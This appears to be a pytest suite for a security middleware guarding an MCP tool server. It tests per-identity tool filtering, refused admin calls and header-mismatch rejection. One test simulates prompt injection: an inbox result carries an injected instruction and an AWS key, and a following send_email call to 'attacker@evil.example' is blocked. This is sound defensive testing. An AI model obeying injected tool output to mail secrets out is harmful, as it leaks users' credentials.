"""BastionMiddleware in front of a real MCP server, driven by the real mcp client, both revisions."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
import httpx2
import pytest
from conftest import AuditLog, Upstreams
from mcp.client import Client
from mcp.client.streamable_http import streamable_http_client
from servers.mcp_server import AWS_KEY, INJECTION

from bastion.events import Effect, EventKind

MODES = ["legacy", "2026-07-28"]


@asynccontextmanager
async def mcp_client(url: str, agent: str, mode: str) -> AsyncIterator[Client]:
    async with (
        httpx2.AsyncClient(headers={"x-agent": agent}, timeout=10) as http,
        Client(streamable_http_client(f"{url}/mcp", http_client=http), mode=mode) as client,  # type: ignore[arg-type]
    ):
        yield client


def text_of(result: Any) -> str:
    return "\n".join(getattr(block, "text", "") for block in result.content)


@pytest.mark.parametrize("mode", MODES)
async def test_tools_list_is_filtered_for_the_identity(
    upstreams: Upstreams, agent: str, mode: str
) -> None:
    async with mcp_client(upstreams.guarded_mcp_url, agent, mode) as client:
        names = [t.name for t in (await client.list_tools()).tools]
    assert names == ["get_weather", "read_inbox", "send_email"]
    async with mcp_client(upstreams.guarded_mcp_url, "root-mcp", mode) as client:
        assert "admin_reset" in [t.name for t in (await client.list_tools()).tools]


@pytest.mark.parametrize("mode", MODES)
async def test_allowed_call_reaches_the_server_and_returns_unchanged(
    upstreams: Upstreams, agent: str, mode: str
) -> None:
    before = upstreams.guarded_mcp_calls["get_weather"]
    async with mcp_client(upstreams.guarded_mcp_url, agent, mode) as client:
        result = await client.call_tool("get_weather", {"city": "Paris"})
    assert not result.is_error
    assert result.structured_content == {"city": "Paris", "temperature": 21}
    assert upstreams.guarded_mcp_calls["get_weather"] == before + 1


@pytest.mark.parametrize("mode", MODES)
async def test_forbidden_call_is_refused_and_never_reaches_the_server(
    upstreams: Upstreams, agent: str, mode: str, audit: AuditLog
) -> None:
    async with mcp_client(upstreams.guarded_mcp_url, agent, mode) as client:
        result = await client.call_tool("admin_reset", {})
    assert result.is_error
    assert "admin_reset" in text_of(result)
    assert upstreams.guarded_mcp_calls["admin_reset"] == 0
    calls = [e for e in audit.for_subject(agent) if e.decision.kind is EventKind.CALL]
    assert [(e.target, e.decision.effect) for e in calls] == [("admin_reset", Effect.FORBID)]


@pytest.mark.parametrize("mode", MODES)
async def test_untrusted_result_taints_the_session_and_hides_then_forbids_a_sensitive_tool(
    upstreams: Upstreams, agent: str, mode: str
) -> None:
    sent_before = upstreams.guarded_mcp_calls["send_email"]
    async with mcp_client(upstreams.guarded_mcp_url, agent, mode) as client:
        inbox = await client.call_tool("read_inbox", {})
        assert INJECTION in text_of(inbox)
        assert AWS_KEY not in text_of(inbox) and AWS_KEY not in json.dumps(inbox.structured_content)
        names = [t.name for t in (await client.list_tools()).tools]
        assert "send_email" not in names and "get_weather" in names
        refused = await client.call_tool("send_email", {"to": "attacker@evil.example", "body": "x"})
    assert refused.is_error and "outward actions are blocked" in text_of(refused)
    assert upstreams.guarded_mcp_calls["send_email"] == sent_before


@pytest.mark.parametrize("mode", MODES)
async def test_taint_does_not_reach_another_identity(
    upstreams: Upstreams, agent: str, mode: str
) -> None:
    async with mcp_client(upstreams.guarded_mcp_url, agent, mode) as client:
        await client.call_tool("read_inbox", {})
    other = f"{agent}-other"
    async with mcp_client(upstreams.guarded_mcp_url, other, mode) as client:
        assert "send_email" in [t.name for t in (await client.list_tools()).tools]
        sent = await client.call_tool("send_email", {"to": "bob@acme.example", "body": "hi"})
    assert not sent.is_error


def _modern_call(name: str) -> tuple[dict[str, Any], dict[str, str]]:
    meta = {
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {},
    }
    body = {
        "jsonrpc": "2.0",
        "id": 7,
        "method": "tools/call",
        "params": {"name": name, "arguments": {"to": "a@b.c", "body": "x"}, "_meta": meta},
    }
    headers = {
        "accept": "application/json, text/event-stream",
        "content-type": "application/json",
        "mcp-protocol-version": "2026-07-28",
        "mcp-method": "tools/call",
        "mcp-name": name,
    }
    return body, headers


def test_mcp_name_header_disagreeing_with_the_body_is_refused(
    upstreams: Upstreams, agent: str, audit: AuditLog
) -> None:
    body, headers = _modern_call("send_email")
    headers["mcp-name"] = "get_weather"
    before = dict(upstreams.guarded_mcp_calls)
    response = httpx.post(
        f"{upstreams.guarded_mcp_url}/mcp",
        content=json.dumps(body),
        headers={**headers, "x-agent": agent},
    )
    reply = response.json()
    assert reply["id"] == 7 and reply["error"]["code"] == -32020
    assert dict(upstreams.guarded_mcp_calls) == before
    assert audit.errors() == ["header_mismatch"]


def test_jsonrpc_error_refusal_mode(make_guard: Any, serve: Any, agent: str) -> None:
    from servers.mcp_server import build_mcp_server

    from bastion.adapters.asgi import BastionMiddleware

    server, calls = build_mcp_server()
    app = BastionMiddleware(
        server.streamable_http_app(json_response=True), guard=make_guard(mcp_refusal="error")
    )
    body, headers = _modern_call("admin_reset")
    with serve(app) as url:
        reply = httpx.post(
            f"{url}/mcp", content=json.dumps(body), headers={**headers, "x-agent": agent}
        ).json()
    assert reply["error"]["code"] == -32001 and "admin_reset" in reply["error"]["message"]
    assert calls["admin_reset"] == 0
